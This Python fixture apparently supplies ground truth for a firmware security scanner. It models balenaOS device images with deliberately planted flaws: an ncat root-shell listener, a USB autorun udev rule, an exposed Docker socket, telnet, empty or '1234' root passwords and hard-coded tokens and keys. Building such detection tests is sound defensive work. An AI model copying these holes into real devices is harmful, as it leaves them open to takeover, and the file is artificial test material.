"""balenaOS: the host of meta-balena with a maker's own layer (firewall, own services) and preloaded containers.

The fleet is on the maker's own openBalena. Units and folders are those of meta-balena's recipes; its mounts bring
config.json on the boot partition and apps.json, what `balena preload` leaves, on the data partition.
"""

import json
import struct
from collections.abc import Mapping

from firmward.model.memory import Content, Node, link
from firmward.model.tree import Kind
from truth.containers import DIGEST, DIGEST_2, HARDENED_LINE, UNITS, declared, enabled, unit
from truth.device_base import BINARY, EGRESS, ELF, SUPPORT, SYSCTL, UPDATE, accounts, policy, script
from truth.key_material import DEVICE_CA, OPENSSH_KEY, OPENSSH_PUBLIC_KEY, WIREGUARD_KEY_2, WIREGUARD_PEER_2
from truth.row import Mistake, Truth, Witness

LOW_BALENA = {
    "container-unsafe": "the supervisor, which updates, is privileged and has the engine's socket",
    "service-runs-as-root": "engine, supervisor and VPN run as meta-balena ships them",
    "service-unsandboxed": "the same",
    "service-without-limits": "the same",
    "mac-profile-missing": "meta-balena ships no profiles for the host's services",
    "rootfs-unverified": "balenaOS checks the host's image when it is installed, not when it runs",
    "update-unauthenticated": "balena's images come over TLS by their digest, without a signature of their own",
    "update-downgrade-possible": "the supervisor takes the release that the fleet is pinned to",
}

OS_RELEASE = """\
ID="balena-os"
NAME="balenaOS"
VERSION="6.8.0"
VERSION_ID="6.8.0"
PRETTY_NAME="balenaOS 6.8.0"
MACHINE="raspberrypi4-64"
META_BALENA_VERSION="6.8.0"
SLUG="raspberrypi4-64"
"""

CONFIG = {
    "apiEndpoint": "https://updates.maker.example",
    "registryEndpoint": "updates.maker.example",
    "deltaEndpoint": "https://updates.maker.example",
    "vpnEndpoint": "updates.maker.example",
    "vpnPort": 443,
    "listenPort": 48484,
    "deviceType": "raspberrypi4-64",
    "appUpdatePollInterval": 900000,
    "developmentMode": False,
    "persistentLogging": False,
    "os": {"network": {"connectivity": {"uri": "https://updates.maker.example/connectivity-check"}}},
}


def config(**changes: object) -> str:
    """config.json. Keys of a device are made at its registration; the image has none."""
    return json.dumps({**CONFIG, **changes}, indent=2) + "\n"


SAFE: dict[str, object] = {
    "user": "10001:10001",
    "read_only": True,
    "cap_drop": ["ALL"],
    "security_opt": ["no-new-privileges:true"],
    "mem_limit": "64m",
    "cpus": 0.5,
    "pids_limit": 64,
    "restart": "always",
    "tmpfs": ["/tmp"],
}


def service(number: int, composition: Mapping[str, object], **rest: object) -> dict[str, object]:
    return {
        "id": number,
        "image_id": number + 500,
        "image": f"updates.maker.example/v2/5f1c9e7a@{DIGEST}",
        "environment": {},
        "labels": {},
        "composition": dict(composition),
        **rest,
    }


def apps(**services: dict[str, object]) -> str:
    """The target state of a preloaded fleet."""
    release = {"id": 71, "services": services, "volumes": {"store": {}}, "networks": {}}
    app = {"id": 7, "name": "product", "class": "fleet", "releases": {"d41c8f20b7": release}}
    return json.dumps({"apps": {"0e5b7c1d4f": app}, "config": {}}, indent=1) + "\n"


MAIN = service(1, {**SAFE, "ports": ["8443:8443"]})
STORE = service(2, {**SAFE, "volumes": ["store:/store"]}, image=f"updates.maker.example/v2/8a20d6e4@{DIGEST_2}")

SUPERVISOR = """\
[Unit]
Description=Balena supervisor
Requires=resin\\x2ddata.mount balena.service
After=balena.service

[Service]
Type=simple
Restart=always
RestartSec=10s
WatchdogSec=180
EnvironmentFile=/etc/balena-supervisor/supervisor.conf
ExecStartPre=-/usr/bin/balena stop balena_supervisor
ExecStart=/usr/bin/healthdog --healthcheck=/usr/lib/balena-supervisor/balena-supervisor-healthcheck \\
    /usr/bin/start-balena-supervisor

[Install]
WantedBy=multi-user.target
"""

START_SUPERVISOR = """\
. /usr/sbin/balena-config-vars
balena rm --force balena_supervisor 2>/dev/null || true
exec balena run --privileged --name balena_supervisor --net=host \\
	--mount type=bind,source=/var/run/balena-engine.sock,target=/var/run/balena-engine.sock \\
	--mount type=bind,source=/resin-data/balena-supervisor,target=/data \\
	--mount type=bind,source=/,target=/mnt/root \\
	-e LISTEN_PORT="$LISTEN_PORT" -e API_ENDPOINT="$API_ENDPOINT" "$SUPERVISOR_IMAGE" /usr/src/app/entry.sh
"""

ENGINE = """\
[Unit]
Description=Balena Application Container Engine
Requires=balena-engine.socket
After=network.target balena-engine.socket

[Service]
Type=notify
Restart=always
Environment=BALENAD_HOST="-H fd:// -H unix:///var/run/balena-engine.sock"
EnvironmentFile=-/var/volatile/development-features
ExecStart=/usr/bin/balenad --log-driver=journald --storage-driver=overlay2 $BALENAD_HOST $BALENA_DEVELOPMENT_ARGS
OOMScoreAdjust=-900
Delegate=yes

[Install]
WantedBy=multi-user.target
"""

ROLLBACK = """\
[Unit]
Description=Balena rollback
ConditionPathExists=/mnt/state/rollback-health-breadcrumb

[Service]
Type=oneshot
RemainAfterExit=yes
ExecStart=/bin/sh /usr/bin/rollback-health

[Install]
WantedBy=multi-user.target
"""

FIREWALL_UNIT = """\
[Unit]
Description=Packet filter
DefaultDependencies=no
Before=network-pre.target balena.service
Wants=network-pre.target

[Service]
Type=oneshot
RemainAfterExit=yes
ExecStart=/usr/sbin/iptables-restore /etc/iptables/iptables.rules
ExecStart=/usr/sbin/ip6tables-restore /etc/iptables/ip6tables.rules

[Install]
WantedBy=sysinit.target
"""

RULES = """\
*filter
:INPUT DROP [0:0]
:FORWARD DROP [0:0]
:OUTPUT DROP [0:0]
:DOCKER-USER - [0:0]
-A INPUT -i lo -j ACCEPT
-A INPUT -m conntrack --ctstate INVALID -j DROP
-A INPUT -m conntrack --ctstate RELATED,ESTABLISHED -j ACCEPT
-A INPUT -s 192.168.0.0/16 -p tcp -m tcp --dport 8443 -m conntrack --ctstate NEW -j ACCEPT
-A OUTPUT -o lo -j ACCEPT
-A OUTPUT -m conntrack --ctstate RELATED,ESTABLISHED -j ACCEPT
-A OUTPUT -d 198.51.100.10/32 -p tcp -m tcp --dport 443 -m limit --limit 2/sec -j ACCEPT
-A FORWARD -j DOCKER-USER
-A DOCKER-USER -m conntrack --ctstate RELATED,ESTABLISHED -j ACCEPT
-A DOCKER-USER -d 198.51.100.10/32 -p tcp -m tcp --dport 443 -j ACCEPT
-A DOCKER-USER -s 192.168.0.0/16 -p tcp -m tcp --dport 8443 -j ACCEPT
-A DOCKER-USER -j DROP
COMMIT
"""

RULES6 = """\
*filter
:INPUT DROP [0:0]
:FORWARD DROP [0:0]
:OUTPUT DROP [0:0]
-A INPUT -i lo -j ACCEPT
-A OUTPUT -o lo -j ACCEPT
COMMIT
"""

OPENVPN = """\
client
dev resin-vpn
proto tcp
remote updates.maker.example 443
remote-cert-tls server
verify-x509-name updates.maker.example name
tls-version-min 1.2
data-ciphers AES-256-GCM
ca /etc/openvpn/ca.crt
auth-user-pass /var/volatile/vpn-auth
persist-key
user openvpn
group openvpn
nobind
script-security 1
"""

CMDLINE = f"dwc_otg.lpm_enable=0 rootfstype=ext4 root=/dev/mmcblk0p2 ro rootwait {HARDENED_LINE}\n"

DATA_MOUNT = """\
[Unit]
Description=Resin data mount point

[Mount]
What=/dev/mapper/luks-resin-data
Where=/mnt/data
Type=ext4
Options=nosuid,nodev

[Install]
WantedBy=multi-user.target
"""

SSHD_SOCKET = (
    "[Unit]\nConflicts=sshd.service\n\n[Socket]\nListenStream=22222\nAccept=yes\n\n[Install]\nWantedBy=sockets.target\n"
)
SSHD = """\
PermitRootLogin no
PasswordAuthentication no
KbdInteractiveAuthentication no
PermitEmptyPasswords no
AllowTcpForwarding no
X11Forwarding no
HostKey /etc/ssh/hostkeys/ssh_host_ed25519_key
Ciphers chacha20-poly1305@openssh.com,aes256-gcm@openssh.com
MACs hmac-sha2-512-etm@openssh.com
KexAlgorithms curve25519-sha256
"""

TIMER = (
    "[Timer]\nOnBootSec=15min\nOnUnitInactiveSec=1d\nRandomizedDelaySec=3600\n\n[Install]\nWantedBy=multi-user.target\n"
)


def balena(**own: Content) -> dict[str, Content]:
    """The host, and the maker's layer."""
    return {
        "etc/os-release": OS_RELEASE,
        "etc/hostname": "device\n",
        "etc/hosts": "127.0.0.1 localhost\n198.51.100.10 updates.maker.example\n",
        "etc/machine-id": "",
        "etc/fstab": """\
/dev/root  /              auto   ro,nodev                                1 1
proc       /proc          proc   nosuid,nodev,noexec                     0 0
tmpfs      /tmp           tmpfs  nosuid,nodev,noexec,mode=1777,size=16m  0 0
tmpfs      /var/volatile  tmpfs  nosuid,nodev,noexec,mode=0755           0 0
tmpfs      /run           tmpfs  nosuid,nodev,noexec,mode=0755,size=16m  0 0
""",
        "etc/sysctl.d/50-hardening.conf": SYSCTL.replace("user.max_user_namespaces = 0\n", "")
        + "net.ipv4.ip_forward = 1\n",
        "etc/balena-supervisor/supervisor.conf": (
            f"SUPERVISOR_IMAGE=updates.maker.example/supervisor@{DIGEST_2}\nLED_FILE=/dev/null\n"
        ),
        "etc/iptables/iptables.rules": RULES,
        "etc/iptables/ip6tables.rules": RULES6,
        "etc/openvpn/openvpn.conf": OPENVPN,
        "etc/openvpn/ca.crt": DEVICE_CA,
        "etc/ssh/sshd_config": SSHD,
        "etc/systemd/system/sshd.socket": link("/dev/null"),
        "etc/systemd/system/sysinit.target.wants/firewall.service": link(f"/{UNITS}/firewall.service"),
        f"{UNITS}/firewall.service": FIREWALL_UNIT,
        f"{UNITS}/balena.service": ENGINE,
        f"{UNITS}/balena-engine.socket": (
            "[Socket]\nListenStream=/run/balena-engine.sock\nSocketMode=0660\n\n[Install]\nWantedBy=sockets.target\n"
        ),
        f"{UNITS}/balena-supervisor.service": SUPERVISOR,
        f"{UNITS}/update-balena-supervisor.timer": TIMER,
        f"{UNITS}/update-balena-supervisor.service": "[Service]\nExecStart=/bin/sh /usr/bin/update-balena-supervisor\n",
        f"{UNITS}/rollback-health.service": ROLLBACK,
        f"{UNITS}/rollback-altboot.service": ROLLBACK.replace("health", "altboot"),
        f"{UNITS}/openvpn.service": unit(
            "OpenVPN",
            "/usr/sbin/openvpn --cd /etc/openvpn --config /etc/openvpn/openvpn.conf",
            rest="PrivateTmp=true\nRestart=always\n",
        ),
        f"{UNITS}/development-features.service": (
            "[Service]\nType=oneshot\nExecStart=/bin/sh /usr/bin/development-features\n"
        ),
        f"{UNITS}/sshd@.service": "[Service]\nExecStart=-/usr/sbin/sshd -i\nStandardInput=socket\n",
        f"{UNITS}/mnt-data.mount": DATA_MOUNT,
        **enabled(
            "balena.service",
            "balena-supervisor.service",
            "update-balena-supervisor.timer",
            "rollback-health.service",
            "rollback-altboot.service",
            "openvpn.service",
            "development-features.service",
            "mnt-data.mount",
        ),
        "mnt/boot/config.json": config(),
        "mnt/boot/cmdline.txt": CMDLINE,
        "mnt/boot/system-connections/README": "[wifi-security]\n# key-mgmt=wpa-psk\n# psk=your-password-here\n",
        "mnt/data/apps.json": apps(main=MAIN, store=STORE),
        "usr/bin/balena": link("balena-engine"),
        "usr/bin/balenad": link("balena-engine"),
        "usr/bin/balena-engine": BINARY,
        "usr/bin/hostapp-update": script('exec balena-engine pull "$2" # the other host partition is written next\n'),
        "usr/bin/start-balena-supervisor": script(START_SUPERVISOR),
        "usr/sbin/openvpn": BINARY,
        "usr/sbin/iptables-restore": BINARY,
        "sbin/init": link("../lib/systemd/systemd"),
        "lib/systemd/systemd": BINARY,
        "tmp": Node(kind=Kind.DIRECTORY, mode=0o1777),
        **accounts(("openvpn", 220)),
        **own,
    }


FILESYSTEM = """\
[filesystem]
verified = "none"
writable = ["/mnt/data", "/mnt/state", "/mnt/boot", "/var/volatile", "/run", "/tmp"]
setuid = []
encrypted = ["/mnt/data"]
key_store = "tpm"
"""

HOST = declared(
    balena="root",
    balena_supervisor="root",
    openvpn="openvpn",
    development_features="root",
    firewall="root",
    main="10001",
    store="10001",
    rollback_health="root",
    rollback_altboot="root",
    update_balena_supervisor="root",
)
LISTEN = """\
[[listen]]
port = 8443
protocol = "tcp"
service = "main"
from = "lan"

[[listen]]
port = 48484
protocol = "tcp"
service = "balena-supervisor"
from = "local"
"""


def balena_policy(product: str, *rest: str, support: str = SUPPORT) -> str:
    return policy(
        product, support, LISTEN, HOST, *rest, EGRESS, FILESYSTEM, UPDATE, system="balena", architecture="arm64"
    )


# --------------------------------------------------------------------------------------------------------- gateway

AVAHI = unit("Names on the local network", "/usr/sbin/avahi-daemon -s", rest="Restart=always\n")

GATEWAY = balena(
    **{
        f"{UNITS}/avahi-daemon.service": AVAHI,
        f"{UNITS}/avahi-daemon.socket": (
            "[Socket]\nListenStream=/run/avahi-daemon/socket\n\n[Install]\nWantedBy=sockets.target\n"
        ),
        "usr/sbin/avahi-daemon": BINARY,
    }
)

GATEWAY_MISTAKES = (
    Mistake(
        "advanced-mode-uncontrolled",
        "meta-balena README, config.json: developmentMode, no passwords and the engine on the network",
        "config.json",
        {"mnt/boot/config.json": config(developmentMode=True)},
    ),
    Mistake(
        "undeclared-listener", "meta-balena, os-helpers-config: BALENA_DEVELOPMENT_ARGS, -H tcp://0.0.0.0:2375", "2375"
    ),
    Mistake("plaintext-protocol", "follows from the socket: dockerd manual, no tlsverify", "docker"),
    Mistake("container-unsafe", "follows from the socket: who reaches the engine is root", "2375"),
    Mistake(
        "container-unsafe",
        "balena documentation, compose fields: privileged",
        "main",
        {
            "mnt/data/apps.json": apps(
                main=service(1, {"privileged": True, "restart": "always", "ports": ["8443:8443"]}),
                store=service(2, {**SAFE, "pid": "host", "cap_add": ["SYS_ADMIN"]}),
            )
        },
    ),
    Mistake("container-unsafe", "balena documentation, compose fields: cap_add, pid", "store"),
    Mistake(
        "credential-hard-coded",
        "nm-settings-keyfile(5), psk",
        "system-connections/factory",
        {
            "mnt/boot/system-connections/factory": Node(
                "[connection]\nid=factory\ntype=wifi\n\n[wifi]\nssid=maker-line-2\n\n"
                "[wifi-security]\nkey-mgmt=wpa-psk\npsk=kT9-vaPr4-Ludwig\n",
                mode=0o600,
            )
        },
    ),
    Mistake("image-sameness", "follows from the key: alike in every copy", "system-connections/factory"),
    Mistake(
        "egress-unrestricted",
        "iptables(8), -P, and the last rule of DOCKER-USER",
        "",
        {
            "etc/iptables/iptables.rules": RULES.replace(":OUTPUT DROP", ":OUTPUT ACCEPT").replace(
                "-A DOCKER-USER -j DROP", "-A DOCKER-USER -j RETURN"
            )
        },
    ),
    Mistake("debug-tool-shipped", "strace(1)", "strace", {"usr/bin/strace": BINARY}),
    Mistake(
        "image-sameness",
        "machine-id(5)",
        "machine-id",
        {"etc/machine-id": "b7e41d90c2a84f6d95137fe0a8c6d214\n"},
    ),
    Mistake(
        "service-unneeded",
        "systemctl(1), enable; the policy names no avahi-daemon",
        "avahi-daemon",
        {"etc/systemd/system/multi-user.target.wants/avahi-daemon.service": link(f"/{UNITS}/avahi-daemon.service")},
        witness=Witness(("systemctl", "--root={root}", "is-enabled", "avahi-daemon.service"), r"^enabled", "systemd"),
    ),
    Mistake("undeclared-listener", "avahi-daemon(8), RFC 6762: UDP port 5353", "5353"),
)

# ---------------------------------------------------------------------------------------------------------- camera

CAMERA = balena()

CAMERA_MISTAKES = (
    Mistake(
        "undeclared-listener",
        "systemd.socket(5), ListenStream; systemd.unit(5), a mask in /etc is gone",
        "22222",
        {
            f"{UNITS}/sshd.socket": SSHD_SOCKET,
            "etc/systemd/system/sockets.target.wants/sshd.socket": link(f"/{UNITS}/sshd.socket"),
        },
        ("etc/systemd/system/sshd.socket",),
        witness=Witness(("systemctl", "--root={root}", "is-enabled", "sshd.socket"), r"^enabled", "systemd"),
    ),
    Mistake(
        "private-key-embedded",
        "sshd_config(5), HostKey",
        "ssh_host_ed25519_key",
        {"etc/ssh/hostkeys/ssh_host_ed25519_key": Node(OPENSSH_KEY, mode=0o600)},
        witness=Witness(
            ("ssh-keygen", "-y", "-f", "{root}/etc/ssh/hostkeys/ssh_host_ed25519_key"),
            r"^ssh-ed25519 ",
            "openssh-client",
        ),
    ),
    Mistake("image-sameness", "sshd(8): host keys are made on each device", "ssh_host_ed25519_key"),
    Mistake("ssh-host-key-baked-in", "sshd_config(5), HostKey", "ssh_host_ed25519_key"),
    Mistake(
        "ssh-authorized-key-baked-in",
        "sshd(8), authorized_keys",
        "authorized_keys",
        {"root/.ssh/authorized_keys": Node(OPENSSH_PUBLIC_KEY, mode=0o600)},
    ),
    Mistake(
        "account-empty-password",
        "shadow(5)",
        "root",
        {"etc/shadow": "root::20400:0:99999:7:::\nnobody:*:20400::::::\nopenvpn:*:20400::::::\n"},
    ),
    Mistake(
        "container-unsafe",
        "balena documentation, labels: io.balena.features.balena-socket; compose fields: network_mode",
        "main",
        {
            "mnt/data/apps.json": apps(
                main=service(
                    1,
                    {**SAFE, "network_mode": "host"},
                    labels={"io.balena.features.balena-socket": "1"},
                    environment={"CLOUD_API_TOKEN": "mkr_live_7Qp2XvN8sLw4KtZr9YbH3cDf"},
                ),
                store=STORE,
            )
        },
    ),
    Mistake("credential-hard-coded", "balena documentation, variables: a token for the whole fleet", "apps.json"),
    Mistake("image-sameness", "follows from the credential: alike in every copy", "apps.json"),
    Mistake(
        "update-over-plaintext",
        "meta-balena README, config.json: apiEndpoint",
        "config.json",
        {
            "mnt/boot/config.json": config(
                apiEndpoint="http://updates.maker.example", deltaEndpoint="http://updates.maker.example"
            )
        },
    ),
    Mistake(
        "tls-weak",
        "openvpn(8), tls-version-min, data-ciphers, remote-cert-tls",
        "openvpn.conf",
        {
            "etc/openvpn/openvpn.conf": OPENVPN.replace("tls-version-min 1.2", "tls-version-min 1.0")
            .replace("data-ciphers AES-256-GCM", "cipher BF-CBC")
            .replace("remote-cert-tls server\nverify-x509-name updates.maker.example name\n", "")
        },
    ),
    Mistake(
        "update-without-fallback",
        "meta-balena docs/rollbacks.md: neither rollback-health nor rollback-altboot is there",
        "",
        without=(
            f"{UNITS}/rollback-health.service",
            f"{UNITS}/rollback-altboot.service",
            "etc/systemd/system/multi-user.target.wants/rollback-health.service",
            "etc/systemd/system/multi-user.target.wants/rollback-altboot.service",
        ),
    ),
    Mistake(
        "data-unencrypted",
        "systemd.mount(5), What: the partition itself",
        "/mnt/data",
        {f"{UNITS}/mnt-data.mount": DATA_MOUNT.replace("/dev/mapper/luks-resin-data", "/dev/disk/by-state/resin-data")},
    ),
    Mistake(
        "kernel-cmdline",
        "admin-guide/kernel-parameters: nokaslr, mitigations",
        "nokaslr",
        {
            "mnt/boot/cmdline.txt": CMDLINE.replace("mitigations=auto,nosmt", "mitigations=off").replace(
                "quiet", "nokaslr"
            )
        },
    ),
    Mistake("kernel-cmdline", "admin-guide/kernel-parameters: mitigations", "mitigations"),
)

# ------------------------------------------------------------------------------------------------------- controller

BROKER = """\
per_listener_settings true
listener 8883
cafile /etc/ssl/certs/maker-ca.pem
certfile /mnt/state/tls/cert.pem
keyfile /mnt/state/tls/key.pem
tls_version tlsv1.3
require_certificate true
use_identity_as_username true
allow_anonymous false
"""

CONTROLLER = balena(
    **accounts(("openvpn", 220), ("mosquitto", 221), ("poller", 222)),
    **{
        "etc/ssl/certs/maker-ca.pem": DEVICE_CA,
        "etc/mosquitto/mosquitto.conf": BROKER,
        f"{UNITS}/mosquitto.service": unit(
            "Broker", "/usr/sbin/mosquitto -c /etc/mosquitto/mosquitto.conf", "mosquitto"
        ),
        f"{UNITS}/poller.service": unit("Asks the machines", "/usr/bin/poller", "poller"),
        **enabled("mosquitto.service", "poller.service"),
        "etc/iptables/iptables.rules": RULES.replace("--dport 8443 -m", "-m multiport --dports 8443,8883 -m", 1),
        "usr/sbin/NetworkManager": BINARY,
        "etc/NetworkManager/dispatcher.d/10-clock": script('[ "$2" = up ] && logger "link is up"\n'),
        "mnt/boot/system-connections/service": Node(
            f"[connection]\nid=service\ntype=wireguard\ninterface-name=wg0\n\n[wireguard]\nprivate-key-flags=1\n\n"
            f"[wireguard-peer.{WIREGUARD_PEER_2}]\nendpoint=198.51.100.10:443\nallowed-ips=10.80.0.1/32\n",
            mode=0o600,
        ),
        "usr/sbin/mosquitto": BINARY,
        "usr/bin/poller": BINARY,
        "usr/bin/ncat": BINARY,
    },
)

CONTROLLER_REST = (
    '[[listen]]\nport = 8883\nprotocol = "tcp"\nservice = "mosquitto"\nfrom = "lan"\n',
    declared(mosquitto="mosquitto", poller="poller"),
)

CONTROLLER_MISTAKES = (
    Mistake(
        "mqtt-anonymous",
        "mosquitto.conf(5), allow_anonymous",
        "mosquitto.conf",
        {"etc/mosquitto/mosquitto.conf": "per_listener_settings false\nallow_anonymous true\nlistener 1883\n"},
    ),
    Mistake("plaintext-protocol", "mosquitto.conf(5), a listener without certfile", "mqtt"),
    Mistake("undeclared-listener", "mosquitto.conf(5), listener", "1883"),
    Mistake(
        "removable-media-executed",
        "meta-balena README, config.json: os.udevRules become rules of udev(7), RUN+=",
        "config.json",
        {
            "mnt/boot/config.json": config(
                apiKey="d1f7a93e5b204c68a7e0c25fb8946d3a",
                os={
                    "udevRules": {
                        "56": 'ACTION=="add", SUBSYSTEM=="block", ENV{ID_BUS}=="usb", '
                        "RUN+=\"/bin/sh -c 'mount /dev/%k /mnt/usb; /mnt/usb/update.sh'\""
                    }
                },
            )
        },
    ),
    Mistake(
        "credential-hard-coded", "meta-balena README, config.json: apiKey, the fleet's provisioning key", "config.json"
    ),
    Mistake("image-sameness", "follows from the credential: alike in every copy", "config.json"),
    Mistake(
        "service-runs-as-root",
        "systemd.unit(5): a unit in /etc replaces the one in /usr/lib; systemd.exec(5), User",
        "poller",
        {
            "etc/systemd/system/poller.service": (
                "[Unit]\nDescription=Asks the machines, for tests\n\n[Service]\nExecStart=/usr/bin/poller -v\n"
                "\n[Install]\nWantedBy=multi-user.target\n"
            )
        },
        witness=Witness(
            ("systemd-analyze", "security", "--offline=true", "--root={root}", "--no-pager", "poller.service"),
            r"Service runs as root user",
            "systemd",
        ),
    ),
    Mistake("service-unsandboxed", "systemd.exec(5), sandboxing", "poller"),
    Mistake("service-without-limits", "systemd.resource-control(5)", "poller"),
    Mistake(
        "hook-directory-writable",
        "NetworkManager-dispatcher(8): the folder is a link to the data partition",
        "dispatcher.d",
        {"etc/NetworkManager/dispatcher.d": link("/mnt/data/dispatcher.d")},
        ("etc/NetworkManager/dispatcher.d/10-clock",),
    ),
    Mistake("privileged-hooks", "NetworkManager-dispatcher(8)", "dispatcher.d"),
    Mistake(
        "private-key-embedded",
        "nm-settings-keyfile(5), wireguard: private-key",
        "system-connections/service",
        {
            "mnt/boot/system-connections/service": Node(
                f"[connection]\nid=service\ntype=wireguard\ninterface-name=wg0\n\n[wireguard]\nprivate-key={WIREGUARD_KEY_2}\n\n"
                f"[wireguard-peer.{WIREGUARD_PEER_2}]\nendpoint=198.51.100.10:443\nallowed-ips=10.80.0.1/32\n",
                mode=0o600,
            )
        },
    ),
    Mistake("image-sameness", "follows from the key: alike in every copy", "system-connections/service"),
    Mistake(
        "backdoor-listener",
        "ncat(1), --keep-open --sh-exec",
        "6666",
        {
            f"{UNITS}/maint.service": unit(
                "Maintenance", "/usr/bin/ncat -l -k 6666 -e /bin/sh", rest="Restart=always\n"
            ),
            "etc/systemd/system/multi-user.target.wants/maint.service": link(f"/{UNITS}/maint.service"),
        },
        witness=Witness(("systemctl", "--root={root}", "is-enabled", "maint.service"), r"^enabled", "systemd"),
    ),
    Mistake("undeclared-listener", "ncat(1), -l PORT", "6666"),
    Mistake("service-unneeded", "the policy names no maint", "maint"),
    Mistake("service-runs-as-root", "systemd.exec(5), User is missing", "maint"),
    Mistake("service-unsandboxed", "systemd.exec(5), sandboxing is missing", "maint"),
    Mistake("expiry-undefined", "DEVICE.md, support.after is missing", ""),
    Mistake("review-missing", "practice P19: no record of a review or a penetration test", ""),
)

# --------------------------------------------------------------------------------------------------------- display

DISPLAY_RUN = (
    "/usr/bin/balena-engine run --rm --name display --read-only --cap-drop=ALL --security-opt=no-new-privileges "
    "--user 10003 --memory=64m --cpus=0.5 --pids-limit=64 --tmpfs /tmp --device=/dev/dri "
    f"updates.maker.example/display@{DIGEST_2}"
)

DISPLAY = balena(
    **{
        f"{UNITS}/display.service": unit("Shows the page", DISPLAY_RUN, rest="Restart=always\n"),
        **enabled("display.service"),
        f"{UNITS}/telnetd.service": unit("Telnet, for the workshop", "/usr/sbin/telnetd -F", rest="Restart=always\n"),
        "usr/sbin/telnetd": BINARY,
        "usr/bin/python3": BINARY,
        "usr/bin/push-logs": script(
            'curl --proto "=https" -fsS -H "Authorization: Bearer $(cat /mnt/state/token)" -T - https://updates.maker.example/logs\n'
        ),
    }
)

DISPLAY_REST = (declared(display="10003"),)

BAD_SHADOW = (
    "root:$6$Qz8tRw2Lm$wzBY9lgK/pkRJh680/evgERd2kF.WMEw5WAxnvBiw53Pcv8GpsuP0fwUushkcvsmM0Qs/H/tmoD.mIqfrfEMK/"
    ":20400:0:99999:7:::\nnobody:*:20400::::::\nopenvpn:*:20400::::::\n"
)

SETUID = struct.pack("<5I", 0x02000001, 1 << 7, 0, 0, 0)
"""security.capability: CAP_SETUID."""

DISPLAY_MISTAKES = (
    Mistake(
        "update-absent",
        "systemd.unit(5): a unit that is a link to /dev/null is masked; nothing else fetches releases",
        "",
        {"etc/systemd/system/balena-supervisor.service": link("/dev/null")},
        (
            "etc/systemd/system/multi-user.target.wants/balena-supervisor.service",
            "etc/systemd/system/multi-user.target.wants/update-balena-supervisor.timer",
            "usr/bin/hostapp-update",
        ),
        witness=Witness(
            ("systemctl", "--root={root}", "is-enabled", "balena-supervisor.service"), r"^masked", "systemd"
        ),
    ),
    Mistake(
        "container-unsafe",
        "balena-engine run, as docker-run(1): --privileged, --net, the whole root",
        "display",
        {
            f"{UNITS}/display.service": unit(
                "Shows the page",
                "/usr/bin/balena-engine run --rm --name display --privileged --net=host -v "
                "/:/host updates.maker.example/display:latest",
                rest="Restart=always\n",
            )
        },
    ),
    Mistake(
        "undeclared-listener",
        "dockerd manual, -H tcp://; systemd.unit(5), a drop-in",
        "2375",
        {
            "etc/systemd/system/balena.service.d/10-remote.conf": (
                '[Service]\nEnvironment=BALENAD_HOST="-H fd:// -H tcp://0.0.0.0:2375"\n'
            )
        },
    ),
    Mistake("plaintext-protocol", "follows from the socket: dockerd manual, no tlsverify", "docker"),
    Mistake("container-unsafe", "follows from the socket: who reaches the engine is root", "2375"),
    Mistake(
        "telnet-enabled",
        "systemctl(1), enable: the link of a unit that was only installed",
        "telnetd",
        {"etc/systemd/system/multi-user.target.wants/telnetd.service": link(f"/{UNITS}/telnetd.service")},
        witness=Witness(("systemctl", "--root={root}", "is-enabled", "telnetd.service"), r"^enabled", "systemd"),
    ),
    Mistake("undeclared-listener", "BusyBox telnetd, port 23", "23"),
    Mistake("plaintext-protocol", "RFC 854", "telnet"),
    Mistake("service-unneeded", "the policy names no telnetd", "telnetd"),
    Mistake("service-runs-as-root", "systemd.exec(5), User is missing", "telnetd"),
    Mistake("service-unsandboxed", "systemd.exec(5), sandboxing is missing", "telnetd"),
    Mistake("mac-profile-missing", "no profile for telnetd", "telnetd"),
    Mistake(
        "account-default-password",
        "crypt(5); 1234 is in the Mirai list",
        "root",
        {"etc/shadow": BAD_SHADOW},
        witness=Witness(
            (
                "sh",
                "-c",
                'grep -qF "root:$(openssl passwd -6 -salt Qz8tRw2Lm 1234):" {root}/etc/shadow && echo default',
            ),
            r"^default$",
            "openssl",
        ),
    ),
    Mistake("image-sameness", "follows from the hash: alike in every copy", "etc/shadow root"),
    Mistake(
        "sysctl",
        "sysctl.d(5); kernel.unprivileged_bpf_disabled in admin-guide/sysctl/kernel.rst",
        "unprivileged_bpf",
        {"etc/sysctl.d/90-trace.conf": "kernel.unprivileged_bpf_disabled = 0\n"},
    ),
    Mistake(
        "credential-hard-coded",
        "curl(1), --header",
        "push-logs",
        {
            "usr/bin/push-logs": script(
                'curl -fsS -H "Authorization: Bearer mkr_live_Zt8Qv3LpXw6RkN2sYb7HcD4f" -T - https://updates.maker.example/logs\n'
            )
        },
    ),
    Mistake("image-sameness", "follows from the credential: alike in every copy", "push-logs"),
    Mistake(
        "capability-unexpected",
        "capabilities(7), cap_setuid on an interpreter",
        "python3",
        {"usr/bin/python3": Node(ELF, mode=0o755, xattrs=(("security.capability", SETUID),))},
    ),
    Mistake("support-ended", "DEVICE.md, support.until", ""),
)

ENDED = SUPPORT.replace("2028-03-31", "2026-06-30").replace("years_from_activation = 1\n", "")

SYSTEMS: tuple[Truth, ...] = (
    Truth("balena-gateway", "balena", "systemd", GATEWAY, GATEWAY_MISTAKES, balena_policy("gateway"), low=LOW_BALENA),
    Truth("balena-camera", "balena", "systemd", CAMERA, CAMERA_MISTAKES, balena_policy("camera"), low=LOW_BALENA),
    Truth(
        "balena-controller",
        "balena",
        "systemd",
        CONTROLLER,
        CONTROLLER_MISTAKES,
        balena_policy("controller", *CONTROLLER_REST),
        balena_policy("controller", *CONTROLLER_REST, support=SUPPORT.replace('after = "local-only"\n', "")),
        LOW_BALENA,
    ),
    Truth(
        "balena-display",
        "balena",
        "systemd",
        DISPLAY,
        DISPLAY_MISTAKES,
        balena_policy("display", *DISPLAY_REST),
        balena_policy("display", *DISPLAY_REST, support=ENDED),
        LOW_BALENA,
    ),
)
